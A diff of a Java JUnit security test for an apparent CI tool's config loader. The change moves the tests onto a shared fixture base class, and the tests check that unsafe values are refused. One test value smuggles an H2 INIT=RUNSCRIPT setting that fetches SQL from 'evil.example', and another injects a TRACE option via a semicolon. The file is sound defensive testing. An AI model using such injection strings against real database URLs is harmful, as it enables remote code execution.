@@ -1,7 +1,6 @@
 package org.ktestci.schema.config;
 
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
 
 import java.nio.file.Files;
 import java.nio.file.Path;
@@ -13,17 +12,10 @@ import static org.junit.jupiter.api.Assertions.assertThrows;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
 /** Config values that would reach a URL, an option list or a directory name on workers (issue 12 item 6). */
-class ConfigSecurityTest {
-    @TempDir
-    Path dir;
-
-    private ConfigFixture fx() {
-        return new ConfigFixture(dir);
-    }
-
+class ConfigSecurityTest extends ConfigFixtureTest {
     @Test
     void repoNamesDotAndDotDotAreRefusedWithTheirPosition() throws Exception {
-        ConfigFixture f = fx().coordinatorLayout();
+        f.coordinatorLayout();
         ConfigFixture.gitRepo(dir.resolve("other"), false);
         String toml = ConfigFixture.COORDINATOR_TOP + """
                 [repos."."]
@@ -41,7 +33,7 @@ class ConfigSecurityTest {
 
     @Test
     void aStateDirThatWouldInjectH2UrlSettingsIsRefused() throws Exception {
-        ConfigFixture f = fx().coordinatorLayout();
+        f.coordinatorLayout();
         String toml = "state_dir = \"state;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'\"\n"
                 + ConfigFixture.COORDINATOR_TOP;
         List<String> errors = f.errors(toml, ConfigRole.COORDINATOR);
@@ -52,7 +44,7 @@ class ConfigSecurityTest {
 
     @Test
     void anH2FileWithASemicolonOrAWorkspaceWithACommaIsRefused() throws Exception {
-        ConfigFixture f = fx().coordinatorLayout();
+        f.coordinatorLayout();
         String toml = ConfigFixture.COORDINATOR_TOP + """
                 [persistence]
                 h2_file = "/var/lib/j;TRACE_LEVEL_SYSTEM_OUT=3"
@@ -69,7 +61,7 @@ class ConfigSecurityTest {
 
     @Test
     void aPathWithANulIsAnErrorNotACrash() throws Exception {
-        ConfigFixture f = fx().coordinatorLayout();
+        f.coordinatorLayout();
         List<String> errors = f.errors("state_dir = \"a\\u0000b\"\n" + ConfigFixture.COORDINATOR_TOP,
                 ConfigRole.COORDINATOR);
         assertEquals(1, errors.size(), errors.toString());
@@ -78,7 +70,7 @@ class ConfigSecurityTest {
 
     @Test
     void aFetchPathWithANulIsAnErrorNotACrash() throws Exception {
-        ConfigFixture f = fx().coordinatorLayout("a.ktest");
+        f.coordinatorLayout("a.ktest");
         String toml = ConfigFixture.COORDINATOR_TOP + """
                 [test_group.g]
                 tests = ["a.ktest"]
@@ -94,7 +86,7 @@ class ConfigSecurityTest {
     /** Config errors are logged and served (/api/v1/queue config_errors): a rejected URL's secret stays out. */
     @Test
     void credentialsInRejectedValuesAreMasked() throws Exception {
-        ConfigFixture f = fx().coordinatorLayout("a.ktest");
+        f.coordinatorLayout("a.ktest");
         String toml = ConfigFixture.COORDINATOR_TOP + """
                 [test_group.g]
                 tests = ["a.ktest"]
